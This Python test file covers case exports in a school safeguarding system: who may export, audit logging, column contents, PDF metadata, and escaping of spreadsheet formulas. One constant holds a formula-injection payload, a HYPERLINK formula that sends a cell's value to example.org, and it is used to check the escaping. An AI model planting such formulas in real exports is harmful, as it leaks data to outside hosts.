"""Cases taken out: to whom they are given, what is in the file, and that no cell of it is a formula."""

import csv
import io
import json
import re
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as some

from bot.cases.receiving.taken import DANGEROUS, safe, shipped_columns
from bot.cases.receiving.taken_pdf import shown
from bot.desk import Desk
from bot.messages import CaseAct, ExportCases, ExportFile, ExportFormat, Refusal
from bot.wording import say
from integrations.app import Reports
from tests.bot.acting import CLOSING, done, sent_by
from tests.bot.reporting import ANSWERS, CANARY, held_by_another, opened, received

DSL, HEAD, CHAIR = "demo-dsl", "demo-headteacher", "demo-chair"
NOT_YOURS = (Refusal(say("refusal.NotYours")),)
FORMULA = '=HYPERLINK("http://example.org?x="&A1)'


def _taken(desk: Desk, as_what: ExportFormat, *references: str, person: str = DSL) -> ExportFile:
    (reply,) = desk.receive(ExportCases(person, as_what, references))
    assert isinstance(reply, ExportFile)
    return reply


def _rows(file: ExportFile) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(file.content.decode("utf-8-sig"), newline="")))


@pytest.mark.both_engines
@pytest.mark.parametrize("as_what", ExportFormat)
@pytest.mark.parametrize("person", [CHAIR, HEAD, "demo-administrator", "demo-policy-owner", "nobody"])
def test_nobody_takes_out_what_is_not_theirs_and_is_told_the_same_as_of_none(
    desk: Desk, as_what: ExportFormat, person: str
) -> None:
    receipt = received(desk)
    for references in ((receipt.reference,), ("C-2222-2222",), ("nonsense",), ()):
        assert desk.receive(ExportCases(person, as_what, references)) == NOT_YOURS
    assert "Taken out by" not in [row.what for row in opened(desk, DSL, receipt.reference).chronology]


@pytest.mark.both_engines
def test_one_case_that_is_not_theirs_among_others_gives_none_of_them(desk: Desk) -> None:
    mine, other = received(desk, draft="a"), received(desk, {**ANSWERS, "about": "headteacher"}, draft="b")
    assert desk.receive(ExportCases(DSL, ExportFormat.JSON, (mine.reference, other.reference))) == NOT_YOURS
    assert "Taken out by" not in [row.what for row in opened(desk, DSL, mine.reference).chronology]


@pytest.mark.both_engines
@pytest.mark.parametrize("as_what", ExportFormat)
def test_that_a_case_was_taken_out_and_as_what_stands_in_it_and_in_the_file(desk: Desk, as_what: ExportFormat) -> None:
    receipt = received(desk)
    file = _taken(desk, as_what, receipt.reference)
    assert file.name == f"{receipt.reference}.{as_what}"
    row = opened(desk, DSL, receipt.reference).chronology[-2]
    assert (row.what, row.detail) == ("Taken out by", say(f"detail.exported.{as_what}"))
    if as_what is not ExportFormat.PDF:
        assert "Demonstration DSL" in file.content.decode()
        assert "22 November 2026, 09:30" in file.content.decode()


@pytest.mark.both_engines
def test_nothing_is_given_when_that_it_was_taken_cannot_be_stored(desk: Desk, reports: Reports) -> None:
    receipt = received(desk)
    with held_by_another(reports.store):
        reply = desk.receive(ExportCases(DSL, ExportFormat.JSON, (receipt.reference,)))
    assert reply == (Refusal(say("refusal.NotDone")),)


def test_the_columns_hold_what_was_told_decided_and_noted(desk: Desk) -> None:
    told = {**ANSWERS, "children": "Sam P., 4B", "place": "Hall", "done": "Told the teacher", "behalf": "Jo, lunch"}
    receipt = sent_by(desk, "demo-policy-owner", told)
    done(desk, DSL, receipt.reference, CaseAct.NOTE, {"text": "Rang home."})
    done(desk, DSL, receipt.reference, CaseAct.CLOSE, CLOSING)
    (row,) = _rows(_taken(desk, ExportFormat.CSV))
    assert list(row) == [column.name for column in shipped_columns()]
    assert {
        "Reference": receipt.reference, "Students": "Sam P., 4B", "Location": "Hall", "Incident": CANARY,
        "Action taken": "Told the teacher", "On behalf of": "Jo, lunch", "Outcome": "No further action",
        "Decision": "Watch.\nNothing further was seen.", "Status": "Closed",
    }.items() <= row.items()  # fmt: skip
    assert "Rang home." in row["Notes"]
    assert "Is anyone in danger now?\nNo" in row["Details"]
    whole = json.loads(_taken(desk, ExportFormat.JSON).content)
    assert whole["cases"][0]["columns"]["Students"] == "Sam P., 4B"
    assert whole["cases"][0]["answers"][0]["answered"] == "A child"


def test_a_formula_that_somebody_typed_is_text_in_the_file(desk: Desk) -> None:
    receipt = received(desk, {**ANSWERS, "what": FORMULA, "place": "@SUM(1)"})
    (row,) = _rows(_taken(desk, ExportFormat.CSV, receipt.reference))
    assert (row["Incident"], row["Location"]) == (f"'{FORMULA}", "'@SUM(1)")


def test_a_pdf_is_of_one_case_alone(desk: Desk) -> None:
    one, two = received(desk, draft="a").reference, received(desk, draft="b").reference
    assert desk.receive(ExportCases(DSL, ExportFormat.PDF, (one, two))) == NOT_YOURS
    assert desk.receive(ExportCases(DSL, ExportFormat.PDF)) == NOT_YOURS


def test_a_pdf_can_be_read_whatever_was_typed_and_its_head_tells_nothing(desk: Desk) -> None:
    words = "Łukasz said “nie”. \U0001f622 \u4f60\u597d \u0627\u0644\u0637\u0641\u0644 " + "x" * 400 + "\n" * 3 + "end"
    receipt = received(desk, {**ANSWERS, "what": words * 20})
    content = _taken(desk, ExportFormat.PDF, receipt.reference).content
    assert content.startswith(b"%PDF-")
    streams = re.findall(rb"stream\r?\n(.*?)\r?\nendstream", content, re.DOTALL)
    assert sum(b"BT" in _inflated(stream) for stream in streams) >= 3, "pages with words on them"
    titles = re.findall(rb"/(?:Title|Subject|Keywords|Author) \((.*?)\)", content)
    assert CANARY.encode() not in content
    assert titles
    assert {title.replace(b"\\", b"") for title in titles} == {receipt.reference.encode()}


def _inflated(stream: bytes) -> bytes:
    try:
        return zlib.decompress(stream)
    except zlib.error:
        return b""


def test_a_sign_that_the_font_has_not_stands_there_by_its_name() -> None:
    signs = frozenset(map(ord, "abc Ł"))
    assert shown("a Ł\tb\U0001f622\u200dc", signs) == "a Ł b[crying face]c"


# ------------------------------------------------------------------------------------------------- properties

TYPED = some.text(some.sampled_from("=+-@|%\t\r\n\"',; aé0\u00a0\u200b\uff1d\0"), max_size=30)


@given(TYPED)
def test_no_line_of_a_cell_begins_a_formula_and_no_word_is_lost(typed: str) -> None:
    cell = safe(typed)
    for line in re.split(r"[\r\n]", cell):
        assert line.lstrip(" \u00a0\u200b\ufeff")[:1] not in DANGEROUS or not line.strip()
    unmarked = "\n".join(line.removeprefix("'") for line in cell.split("\n"))
    assert unmarked.replace("'", "") == re.sub("\r\n?", "\n", typed).replace("\0", "\ufffd").replace("'", "")


@given(some.lists(TYPED, min_size=1, max_size=4))
def test_cells_come_back_out_of_a_file_as_they_went_in(cells: list[str]) -> None:
    out = io.StringIO(newline="")
    csv.writer(out, quoting=csv.QUOTE_ALL).writerow([safe(cell) for cell in cells])
    (row,) = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert row == [safe(cell) for cell in cells]
